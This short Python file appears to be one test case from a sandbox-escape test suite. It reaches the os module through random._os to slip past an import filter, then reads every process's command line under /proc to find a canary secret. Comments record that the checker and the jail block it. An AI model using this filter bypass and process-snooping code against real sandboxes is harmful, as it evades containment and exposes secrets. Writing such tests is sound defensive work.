# Tries: list every process through /proc and read each one's command line, looking for
#   the host's processes (the canary carries the secret in its command line).
# Check layer: rejected ("_os").
# Sandbox layer: /proc does not exist in the jail -> failed.
import random
os = random._os
for entry in os.listdir("/proc"):
    if entry.isdigit():
        fd = os.open("/proc/" + entry + "/cmdline", os.O_RDONLY)
        print("ESCAPED" + ":", entry, os.read(fd, 1000))
